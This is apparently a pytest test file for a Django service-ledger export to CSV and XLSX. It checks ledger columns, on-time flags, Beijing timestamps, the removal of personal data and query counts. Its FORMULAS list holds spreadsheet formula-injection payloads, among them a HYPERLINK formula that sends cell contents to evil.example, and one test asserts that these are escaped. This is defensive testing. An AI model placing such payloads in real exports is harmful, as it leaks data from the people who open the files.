"""The service ledger (台账) export: what a point did and when, never who asked."""

import csv
import datetime
import io
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from openpyxl import load_workbook

from directory.models import ServiceItem, ServicePoint
from services.handling import rate
from services.ledger import LEDGER_COLUMNS, ledger_response, ledger_rows
from services.models import ConsultationRequest, Status

from .helpers import at

pytestmark = pytest.mark.django_db

SHANGHAI = ZoneInfo("Asia/Shanghai")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1+1",
]
PERSONAL = [
    "王小明",
    "13912345678",
    "wxm@example.com",
    "某某科技有限公司",
    "秘密的主题",
    "问题正文",
]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def point(make_point):
    return make_point(title="广州网点")


@pytest.fixture
def answered(point, make_request):
    """Asked Monday 2 March 2026 10:00, answered Tuesday 12:30 (10.5 working hours), rated 4."""
    request_obj = make_request(
        point=point,
        name=PERSONAL[0],
        phone=PERSONAL[1],
        email=PERSONAL[2],
        organisation=PERSONAL[3],
        subject=PERSONAL[4],
        question=PERSONAL[5],
    )
    ConsultationRequest.objects.filter(pk=request_obj.pk).update(
        submitted_at=at("2026-03-02 10:00"),
        due_at=at("2026-03-09 10:00"),
        first_response_at=at("2026-03-03 12:30"),
        status=Status.CLOSED,
        closed_at=at("2026-03-03 12:30"),
    )
    request_obj.refresh_from_db()
    rate(request_obj, 4, "服务很好，联系我 wxm@example.com")
    return ConsultationRequest.objects.get(pk=request_obj.pk)


def by_column(row: list) -> dict:
    return dict(zip([str(c) for c in LEDGER_COLUMNS], row, strict=True))


def read_csv(response) -> list[list[str]]:
    assert response.content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read Chinese"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def read_xlsx(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"live formula in {cell.coordinate}: {cell.value}"
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_a_line_holds_the_ledger_facts(answered):
    row = by_column(next(ledger_rows(ConsultationRequest.objects.filter(pk=answered.pk))))

    assert row == {
        "Tracking code": answered.formatted_code,
        "Point": "广州网点",
        "Service code": "B03",
        "Service": "知识产权基础检索",
        "Tier": "basic (free)",
        "Submitted": datetime.datetime(2026, 3, 2, 10, 0),
        "First reply due": datetime.datetime(2026, 3, 9, 10, 0),
        "First reply": datetime.datetime(2026, 3, 3, 12, 30),
        "Response time (working hours)": 10.5,
        "Answered on time": "yes",
        "Status": "closed",
        "Closed": datetime.datetime(2026, 3, 3, 12, 30),
        "Satisfaction (1–5)": 4,
    }


def test_answered_on_time_is_no_when_late_or_overdue_and_empty_while_not_due(make_request, point):
    late, overdue, waiting = (make_request(point=point) for _ in range(3))
    ConsultationRequest.objects.filter(pk=late.pk).update(
        submitted_at=at("2026-03-02 10:00"),
        due_at=at("2026-03-09 10:00"),
        first_response_at=at("2026-03-09 10:01"),
        status=Status.ANSWERED,
    )
    ConsultationRequest.objects.filter(pk=overdue.pk).update(due_at=at("2026-03-09 10:00"))
    rows = {
        row[0]: by_column(row)
        for row in ledger_rows(ConsultationRequest.objects.all(), now=at("2026-06-01 12:00"))
    }
    ConsultationRequest.objects.filter(pk=waiting.pk).update(due_at=at("2026-06-08 12:00"))
    waiting_row = by_column(
        next(ledger_rows(ConsultationRequest.objects.filter(pk=waiting.pk), now=at("2026-06-01")))
    )

    assert rows[late.formatted_code]["Answered on time"] == "no"
    assert rows[late.formatted_code]["Response time (working hours)"] == 40.0
    assert rows[overdue.formatted_code]["Answered on time"] == "no"
    assert rows[overdue.formatted_code]["First reply"] is None
    assert waiting_row["Answered on time"] == ""
    assert waiting_row["Response time (working hours)"] is None


def test_the_central_inbox_and_a_question_without_service_have_readable_lines(make_request):
    request_obj = make_request(point=None, service=None, city="110100")  # no node in Beijing

    row = by_column(next(ledger_rows(ConsultationRequest.objects.filter(pk=request_obj.pk))))

    assert request_obj.point is None
    assert row["Point"] == "IP office (central inbox)"
    assert (row["Service code"], row["Service"], row["Tier"]) == ("", "", "")
    assert row["Status"] == "new"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_download_has_the_header_and_no_personal_data(answered, fmt):
    response = ledger_response(ConsultationRequest.objects.all(), fmt, "台账-2026")

    table = read_csv(response) if fmt == "csv" else read_xlsx(response)
    assert table[0] == [str(c) for c in LEDGER_COLUMNS]
    assert len(table) == 2 and table[1][0] == answered.formatted_code
    text = repr(table)
    for value in [*PERSONAL, "服务很好"]:
        assert value not in text
    assert f".{fmt}" in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment")


def test_csv_cells_are_text_in_beijing_time(answered):
    row = read_csv(ledger_response(ConsultationRequest.objects.all(), "csv", "ledger"))[1]
    cells = by_column(row)

    assert cells["Submitted"] == "2026-03-02 10:00"
    assert cells["Response time (working hours)"] == "10.5"
    assert cells["Satisfaction (1–5)"] == "4"


def test_xlsx_keeps_dates_and_numbers_as_such(answered):
    row = read_xlsx(ledger_response(ConsultationRequest.objects.all(), "xlsx", "ledger"))[1]
    cells = by_column(row)

    assert cells["Submitted"] == datetime.datetime(2026, 3, 2, 10, 0)
    assert cells["Response time (working hours)"] == 10.5
    assert cells["Satisfaction (1–5)"] == 4


@pytest.fixture
def formula_requests(make_point, make_request):
    """An editor named a point and catalogue services like spreadsheet formulas."""
    point = make_point(title="公式网点", slug="formula-point")
    ServicePoint.objects.filter(pk=point.pk).update(title=FORMULAS[0])
    codes = ["B01", "B02", "B03", "P01", "V01"]
    for code, name in zip(codes, FORMULAS[1:], strict=True):
        ServiceItem.objects.filter(code=code).update(name=name)
    return [make_request(point=point, service=code) for code in codes]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_injection_is_neutralised(formula_requests, fmt):
    response = ledger_response(ConsultationRequest.objects.all(), fmt, "ledger")

    table = read_csv(response) if fmt == "csv" else read_xlsx(response)
    cells = [cell for row in table for cell in row if isinstance(cell, str)]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    for formula in FORMULAS:
        expected = "'" + formula
        if fmt == "xlsx":
            expected = expected.replace("\r", "\n")  # XML reads a carriage return as a newline
        assert expected in cells


def test_only_the_given_requests_are_exported(make_point, make_request):
    mine, other = make_point(title="本网点"), make_point(title="他网点")
    kept = [make_request(point=mine), make_request(point=mine)]
    left_out = make_request(point=other)

    table = read_csv(
        ledger_response(ConsultationRequest.objects.for_points([mine.pk]), "csv", "ledger")
    )

    codes = {row[0] for row in table[1:]}
    assert codes == {r.formatted_code for r in kept}
    assert left_out.formatted_code not in codes


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_query_count_does_not_grow_with_the_rows(make_point, make_request, fmt):
    points = [make_point(title="甲网点"), make_point(title="乙网点")]
    make_request(point=points[0])

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            ledger_response(ConsultationRequest.objects.all(), fmt, "ledger")
        return len(captured)

    one = queries()
    for point in points * 2:
        make_request(point=point, service="P01")
        make_request(point=None, service=None)
    assert queries() == one == 2  # the requests with point and service, and the calendar


def test_an_unknown_format_is_refused(answered):
    with pytest.raises(ValueError):
        ledger_response(ConsultationRequest.objects.all(), "pdf", "ledger")
